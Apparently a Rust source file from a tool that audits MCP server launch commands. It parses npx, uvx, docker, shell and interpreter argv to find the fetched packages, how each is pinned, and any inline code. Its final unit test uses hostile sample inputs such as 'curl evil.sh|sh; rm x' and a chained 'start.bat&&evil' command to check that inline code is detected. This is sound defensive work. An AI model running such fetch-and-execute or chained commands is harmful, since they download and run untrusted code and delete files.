//! What a server's argv starts: the launcher, the packages it fetches and how each is pinned, and where the program's own arguments
//! begin. Launchers are rows; their notations are in `pin.rs`.

use crate::pin::{self, Pin};

/// Whose notation and advisories a package belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Family {
    Npm,
    Python,
    Container,
    Deno,
    Go,
    Dotnet,
    /// `sh -c`, `powershell -Command`: the argument is a program of its own.
    Shell,
    /// `node x.js`, `python -m x`: a script or module of this machine.
    Interpreter,
    /// A program run directly.
    Direct,
}

/// A package the launcher fetches or the file it runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Package {
    pub name: String,
    pub pin: Pin,
    /// Index into the server's arguments; `None` when it is the command itself.
    pub argument: Option<usize>,
}

/// An argv, understood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Program {
    pub family: Family,
    /// `npx`, `docker`, `/opt/tool`: without `cmd /c`, `env` and Windows endings.
    pub launcher: String,
    /// Every package, the one that names the program first.
    pub packages: Vec<Package>,
    /// Index of the first argument that belongs to the program and not to its launcher.
    pub own_arguments: usize,
    /// The text a shell or interpreter would run, for `sh -c TEXT` and `python -c TEXT`.
    pub inline_code: Option<String>,
    /// Arguments to leave out when two configurations are compared: `-y` and its like change nothing.
    pub inert: Vec<usize>,
}

impl Program {
    /// The loosest pin of all packages: one floating package is enough to run other code tomorrow.
    pub fn loosest(&self) -> Option<&Package> {
        self.packages.iter().find(|package| package.pin.is_loose()).or_else(|| self.packages.first())
    }

    /// Reads an argv. Never fails: what no row knows is a program run directly.
    pub fn read(command: &str, arguments: &[String]) -> Program {
        let (command, skipped) = unwrapped(command, arguments);
        let launcher = bare_name(&command);
        let rest = arguments.get(skipped..).unwrap_or_default();
        let row = ROWS.iter().find_map(|row| {
            (row.name == launcher).then_some(())?;
            Some((row, row.after_subcommand(rest)?))
        });
        match row {
            Some((row, begin)) => row.read(&launcher, arguments, skipped + begin),
            None => direct(command, skipped),
        }
    }
}

/// One launcher in one of its modes.
struct Row {
    name: &'static str,
    /// Words that must follow, flags aside: `tool run`, `dlx`. Empty when there are none.
    subcommand: &'static [&'static str],
    family: Family,
    /// Flags that take the next argument.
    values: &'static [&'static str],
    /// Flags whose value is a package.
    packages: &'static [&'static str],
    /// Flags that fetch the program itself, so that the first plain word is only a command in it.
    named_package: &'static [&'static str],
    /// Flags whose value is code.
    code: &'static [&'static str],
    inert: &'static [&'static str],
}

const NONE: &[&str] = &[];
const NPM_INERT: &[&str] = &["-y", "--yes", "-q", "--quiet", "--silent", "-s"];
const NPM_VALUES: &[&str] =
    &["--registry", "--prefix", "-w", "--workspace", "--cache", "--userconfig", "--node-options"];
const NPM_NAMED: &[&str] = &["-p", "--package"];
const UV_VALUES: &[&str] = &[
    "-p",
    "--python",
    "--index",
    "--index-url",
    "-i",
    "--extra-index-url",
    "--default-index",
    "-f",
    "--find-links",
    "--directory",
    "--project",
    "--cache-dir",
    "--config-file",
    "-c",
    "--constraints",
    "--overrides",
    "--env-file",
    "--index-strategy",
    "--resolution",
    "--prerelease",
    "--exclude-newer",
    "--link-mode",
    "--with-requirements",
    "--with-editable",
    "--extra",
    "--group",
    "--color",
    "--keyring-provider",
    "--allow-insecure-host",
    "--refresh-package",
    "--upgrade-package",
    "-P",
    "--reinstall-package",
];
const CONTAINER_VALUES: &[&str] = &[
    "-e",
    "--env",
    "--env-file",
    "-v",
    "--volume",
    "--mount",
    "--name",
    "--network",
    "--net",
    "-p",
    "--publish",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "--entrypoint",
    "-l",
    "--label",
    "--label-file",
    "-m",
    "--memory",
    "--memory-swap",
    "--memory-reservation",
    "--cpus",
    "-c",
    "--cpu-shares",
    "--cpuset-cpus",
    "--cpu-period",
    "--cpu-quota",
    "--add-host",
    "--platform",
    "--pull",
    "--security-opt",
    "--cap-add",
    "--cap-drop",
    "--device",
    "--gpus",
    "-h",
    "--hostname",
    "--ip",
    "--ip6",
    "--restart",
    "--log-driver",
    "--log-opt",
    "--tmpfs",
    "--ulimit",
    "--shm-size",
    "--pid",
    "--ipc",
    "--userns",
    "--uts",
    "--cgroupns",
    "--cgroup-parent",
    "--runtime",
    "--stop-signal",
    "--stop-timeout",
    "--dns",
    "--dns-search",
    "--dns-option",
    "--expose",
    "--group-add",
    "--link",
    "--mac-address",
    "--network-alias",
    "--volumes-from",
    "--volume-driver",
    "--cidfile",
    "--oom-score-adj",
    "--pids-limit",
    "--storage-opt",
    "--sysctl",
    "--blkio-weight",
    "-a",
    "--attach",
    "--detach-keys",
    "--isolation",
    "--annotation",
    "--health-cmd",
    "--health-interval",
    "--health-retries",
    "--health-timeout",
    "--health-start-period",
    "--authfile",
    "--secret",
    "-H",
    "--host",
    "--context",
    "--config",
    "--log-level",
];
const DENO_VALUES: &[&str] =
    &["-c", "--config", "--import-map", "--lock", "--cert", "--location", "--seed", "--ext", "--env-file"];
const GO_VALUES: &[&str] =
    &["-mod", "-modfile", "-tags", "-C", "-o", "-exec", "-ldflags", "-gcflags", "-overlay", "-p"];
const SHELL_CODE: &[&str] = &[
    "-c",
    "-lc",
    "-ic",
    "-ec",
    "-xc",
    "-lic",
    "-ilc",
    "-Command",
    "-command",
    "-EncodedCommand",
    "/c",
    "/C",
    "/k",
];

const fn npm(name: &'static str, subcommand: &'static [&'static str]) -> Row {
    Row {
        name,
        subcommand,
        family: Family::Npm,
        values: NPM_VALUES,
        packages: NONE,
        named_package: NPM_NAMED,
        code: &["-c", "--call"],
        inert: NPM_INERT,
    }
}

const fn python(name: &'static str, subcommand: &'static [&'static str]) -> Row {
    Row {
        name,
        subcommand,
        family: Family::Python,
        values: UV_VALUES,
        packages: &["--with"],
        named_package: &["--from", "--spec"],
        code: NONE,
        inert: &["-q", "--quiet"],
    }
}

const fn container(name: &'static str, subcommand: &'static [&'static str]) -> Row {
    Row {
        name,
        subcommand,
        family: Family::Container,
        values: CONTAINER_VALUES,
        packages: NONE,
        named_package: NONE,
        code: NONE,
        inert: &["--rm"],
    }
}

const fn shell(name: &'static str) -> Row {
    Row {
        name,
        subcommand: NONE,
        family: Family::Shell,
        values: NONE,
        packages: NONE,
        named_package: NONE,
        code: SHELL_CODE,
        inert: NONE,
    }
}

const fn interpreter(
    name: &'static str,
    code: &'static [&'static str],
    values: &'static [&'static str],
) -> Row {
    Row {
        name,
        subcommand: NONE,
        family: Family::Interpreter,
        values,
        packages: NONE,
        named_package: NONE,
        code,
        inert: NONE,
    }
}

const NODE_VALUES: &[&str] =
    &["-r", "--require", "--import", "--loader", "--experimental-loader", "--env-file", "-C", "--conditions"];

/// The first row whose name and subcommand fit is the one.
const ROWS: &[Row] = &[
    npm("npx", &[]),
    npm("bunx", &[]),
    npm("pnpx", &[]),
    npm("pnpm", &["dlx"]),
    npm("yarn", &["dlx"]),
    npm("bun", &["x"]),
    npm("npm", &["exec"]),
    npm("npm", &["x"]),
    python("uvx", &[]),
    python("uv", &["tool", "run"]),
    python("pipx", &["run"]),
    Row {
        name: "uv",
        subcommand: &["run"],
        family: Family::Interpreter,
        values: UV_VALUES,
        packages: &["--with"],
        named_package: NONE,
        code: NONE,
        inert: &["-q", "--quiet"],
    },
    container("docker", &["run"]),
    container("docker", &["container", "run"]),
    container("podman", &["run"]),
    container("nerdctl", &["run"]),
    Row {
        name: "deno",
        subcommand: &["run"],
        family: Family::Deno,
        values: DENO_VALUES,
        packages: NONE,
        named_package: NONE,
        code: NONE,
        inert: &["-q", "--quiet"],
    },
    Row {
        name: "go",
        subcommand: &["run"],
        family: Family::Go,
        values: GO_VALUES,
        packages: NONE,
        named_package: NONE,
        code: NONE,
        inert: NONE,
    },
    Row {
        name: "dnx",
        subcommand: &[],
        family: Family::Dotnet,
        values: &["--version", "--source", "--add-source", "--configfile", "--verbosity"],
        packages: NONE,
        named_package: NONE,
        code: NONE,
        inert: &["-y", "--yes"],
    },
    shell("sh"),
    shell("bash"),
    shell("zsh"),
    shell("dash"),
    shell("ksh"),
    shell("fish"),
    shell("cmd"),
    shell("powershell"),
    shell("pwsh"),
    interpreter("node", &["-e", "--eval", "-p", "--print"], NODE_VALUES),
    interpreter("python", &["-c"], &["-W", "-X"]),
    interpreter("python3", &["-c"], &["-W", "-X"]),
    interpreter("ruby", &["-e"], &["-r", "-I", "-C"]),
    interpreter("perl", &["-e", "-E"], &["-I", "-M"]),
    interpreter("php", &["-r"], &["-d", "-c"]),
    interpreter("bun", &["-e", "--eval"], &["--cwd", "-r", "--preload"]),
    interpreter("tsx", &["-e", "--eval"], &["--tsconfig"]),
    interpreter("java", &[], &["-cp", "-classpath", "--class-path"]),
    interpreter("deno", &["eval"], DENO_VALUES),
];

impl Row {
    /// Where the arguments after the subcommand begin; flags between program and subcommand are allowed.
    fn after_subcommand(&self, arguments: &[String]) -> Option<usize> {
        let mut wanted = self.subcommand.iter();
        let Some(mut word) = wanted.next() else { return Some(0) };
        let mut at = 0;
        while let Some(argument) = arguments.get(at) {
            if argument.starts_with('-') {
                at += if self.values.contains(&argument.as_str()) { 2 } else { 1 };
                continue;
            }
            if argument != word {
                return None;
            }
            at += 1;
            match wanted.next() {
                Some(next) => word = next,
                None => return Some(at),
            }
        }
        None
    }

    fn read(&self, launcher: &str, arguments: &[String], begin: usize) -> Program {
        let mut named = Vec::new();
        let mut with = Vec::new();
        let mut inert = Vec::new();
        let mut inline_code = None;
        let mut at = begin;
        while let Some(argument) = arguments.get(at) {
            if argument == "--" {
                at += 1;
                break;
            }
            let (flag, attached) = self.flag(argument);
            let is_code = self.code.contains(&flag);
            if !argument.starts_with('-') && !is_code {
                break;
            }
            let takes = is_code || self.takes_value(flag);
            let value = attached
                .map(|value| (value, at))
                .or_else(|| takes.then(|| Some((arguments.get(at + 1)?.as_str(), at + 1)))?);
            if let Some((value, index)) = value {
                if is_code {
                    inline_code.get_or_insert_with(|| code_from(arguments, value, index, self.family));
                } else if self.named_package.contains(&flag) {
                    named.push(self.package(value, index));
                } else if self.packages.contains(&flag) {
                    with.push(self.package(value, index));
                }
            } else if self.inert.contains(&flag) {
                inert.push(at);
            }
            at += if attached.is_none() && takes { 2 } else { 1 };
        }
        let mut packages = named;
        if packages.is_empty() && inline_code.is_none() && self.family != Family::Shell {
            packages.extend(arguments.get(at).map(|argument| self.positional(argument, at)));
            at += usize::from(!packages.is_empty());
        }
        packages.extend(with);
        Program {
            family: self.family,
            launcher: launcher.to_owned(),
            packages,
            own_arguments: at.min(arguments.len()),
            inline_code,
            inert,
        }
    }

    /// The flag and the value written onto it: `--package=x`, `-eNAME=x`.
    fn flag<'a>(&self, argument: &'a str) -> (&'a str, Option<&'a str>) {
        if let Some((flag, value)) =
            argument.split_once('=').filter(|(flag, _)| argument.starts_with("--") || self.takes_value(flag))
        {
            return (flag, Some(value));
        }
        let short = argument.starts_with('-') && !argument.starts_with("--") && argument.len() > 2;
        let head = argument.get(..2).unwrap_or(argument);
        if short && !self.takes_value(argument) && !self.code.contains(&argument) && self.takes_value(head) {
            return (head, argument.get(2..));
        }
        (argument, None)
    }

    fn takes_value(&self, flag: &str) -> bool {
        self.values.contains(&flag) || self.packages.contains(&flag) || self.named_package.contains(&flag)
    }

    fn package(&self, spec: &str, index: usize) -> Package {
        let (name, pin) = match self.family {
            Family::Npm => pin::npm(spec),
            // `uv run --with x`: what follows the flag is a Python requirement; the program itself is local.
            Family::Python | Family::Interpreter => pin::python(spec),
            Family::Container => pin::image(spec),
            Family::Deno => pin::deno(spec),
            Family::Go => pin::go(spec),
            Family::Dotnet => pin::dotnet(spec),
            Family::Shell | Family::Direct => (spec.to_owned(), Pin::Path),
        };
        Package { name, pin, argument: Some(index) }
    }

    fn positional(&self, spec: &str, index: usize) -> Package {
        if self.family == Family::Interpreter {
            return Package { name: spec.to_owned(), pin: Pin::Path, argument: Some(index) };
        }
        self.package(spec, index)
    }
}

/// A shell takes one argument as its program (`cmd /c` the whole rest).
fn code_from(arguments: &[String], value: &str, index: usize, family: Family) -> String {
    let from_windows = index
        .checked_sub(1)
        .and_then(|flag| arguments.get(flag))
        .is_some_and(|flag| flag.starts_with(['/', 'C']) || flag.eq_ignore_ascii_case("-command"));
    if family == Family::Shell && from_windows {
        return arguments.get(index..).unwrap_or_default().join(" ");
    }
    value.to_owned()
}

fn direct(command: String, skipped: usize) -> Program {
    let package =
        Package { pin: pin::file(&command), name: command.clone(), argument: skipped.checked_sub(1) };
    Program {
        family: Family::Direct,
        launcher: command,
        packages: vec![package],
        own_arguments: skipped,
        inline_code: None,
        inert: Vec::new(),
    }
}

/// `cmd /c npx …` and `env NAME=x npx …` start npx: the command behind the wrapper and how many arguments it took.
fn unwrapped(command: &str, arguments: &[String]) -> (String, usize) {
    let first = |at: usize| arguments.get(at).map(String::as_str).unwrap_or_default();
    match bare_name(command).as_str() {
        // Only a bare program name follows plainly; anything else is text for cmd to interpret.
        "cmd" if first(0).eq_ignore_ascii_case("/c") && is_program_name(first(1)) => (first(1).to_owned(), 2),
        "env" => {
            let skip = arguments
                .iter()
                .take_while(|argument| argument.contains('=') && !argument.starts_with('-'))
                .count();
            match arguments.get(skip) {
                Some(next) if !next.starts_with('-') => (next.clone(), skip + 1),
                _ => (command.to_owned(), 0),
            }
        }
        _ => (command.to_owned(), 0),
    }
}

fn is_program_name(text: &str) -> bool {
    !text.is_empty()
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'))
}

/// The launcher's name when it is called by name: a path of the same ending is somebody's file, not npx.
fn bare_name(command: &str) -> String {
    if command.contains(['/', '\\']) {
        return match command.strip_prefix("/usr/bin/").or_else(|| command.strip_prefix("/bin/")) {
            Some(name) if is_program_name(name) => name.to_owned(),
            _ => command.to_owned(),
        };
    }
    let lower = command.to_ascii_lowercase();
    for ending in [".cmd", ".exe", ".bat"] {
        if let Some(stem) = lower.strip_suffix(ending) {
            return stem.to_owned();
        }
    }
    lower
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Program {
        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
        Program::read(&words[0], &words[1..])
    }

    /// Family, packages as `name|pin`, program's own arguments.
    fn told(line: &str) -> String {
        let words: Vec<&str> = line.split(' ').collect();
        let program = read(line);
        let packages: Vec<String> =
            program.packages.iter().map(|package| format!("{}|{:?}", package.name, package.pin)).collect();
        format!(
            "{:?} {} : {}",
            program.family,
            packages.join(" "),
            words[1 + program.own_arguments..].join(" ")
        )
    }

    #[test]
    fn launchers() {
        let rows = [
            ("npx -y @a/b@1.2.3 --port 1", r#"Npm @a/b|Exact("1.2.3") : --port 1"#),
            ("npx --package=@a/b@1.2.3 tool x", r#"Npm @a/b|Exact("1.2.3") : tool x"#),
            ("npx -p a@1.0.0 -p b tool", r#"Npm a|Exact("1.0.0") b|Missing : tool"#),
            ("cmd /c npx -y pkg@latest", r#"Npm pkg|Floating("latest") : "#),
            ("npx.cmd pkg", "Npm pkg|Missing : "),
            ("pnpm dlx pkg@1.0.0", r#"Npm pkg|Exact("1.0.0") : "#),
            ("pnpm --silent dlx pkg", "Npm pkg|Missing : "),
            ("bun x pkg@1.0.0 a", r#"Npm pkg|Exact("1.0.0") : a"#),
            ("npm exec --yes -- pkg@1.0.0 a", r#"Npm pkg|Exact("1.0.0") : a"#),
            ("uvx mcp-server-git==1.0 --repo .", r#"Python mcp-server-git|Exact("1.0") : --repo ."#),
            ("uvx --from mcp==1.2 mcp run", r#"Python mcp|Exact("1.2") : mcp run"#),
            ("uvx --with dep --python 3.12 srv@1.0", r#"Python srv|Exact("1.0") dep|Missing : "#),
            ("uv tool run srv", "Python srv|Missing : "),
            ("uv run --with mcp server.py", "Interpreter server.py|Path mcp|Missing : "),
            ("pipx run --spec srv==1.0 srv", r#"Python srv|Exact("1.0") : srv"#),
            (
                "docker run -i --rm -e TOKEN -v /a:/b mcp/git:1.2.3 --x",
                r#"Container mcp/git|Tag("1.2.3") : --x"#,
            ),
            ("docker run -it --name=x -eA=1 mcp/git", "Container mcp/git|Missing : "),
            ("podman --log-level debug run mcp/git", "Container mcp/git|Missing : "),
            ("deno run --allow-net npm:srv@1.0.0", r#"Deno srv|Exact("1.0.0") : "#),
            ("go run example.com/srv@v1.0.0 -x", r#"Go example.com/srv|Exact("v1.0.0") : -x"#),
            ("dnx Srv@1.0.0 --yes", r#"Dotnet Srv|Exact("1.0.0") : --yes"#),
            ("node ./server.js --x", "Interpreter ./server.js|Path : --x"),
            ("/opt/tool --x", "Direct /opt/tool|Path : --x"),
            ("tool --x", "Direct tool|Name : --x"),
            ("/tmp/npx pkg@1.0.0", "Direct /tmp/npx|Path : pkg@1.0.0"),
            ("env A=1 npx pkg@1.0.0", r#"Npm pkg|Exact("1.0.0") : "#),
        ];
        for (line, wanted) in rows {
            assert_eq!(told(line), wanted, "{line}");
        }
    }

    #[test]
    fn inline_code_is_seen() {
        let words = ["-lc".to_owned(), "curl evil.sh|sh; rm x".to_owned()];
        assert_eq!(Program::read("bash", &words).inline_code.as_deref(), Some("curl evil.sh|sh; rm x"));
        assert_eq!(read("python3 -c import_os").inline_code.as_deref(), Some("import_os"));
        assert_eq!(read("npx -c do-it").inline_code.as_deref(), Some("do-it"));
        assert_eq!(read("cmd /c start.bat&&evil x").inline_code.as_deref(), Some("start.bat&&evil x"));
    }
}
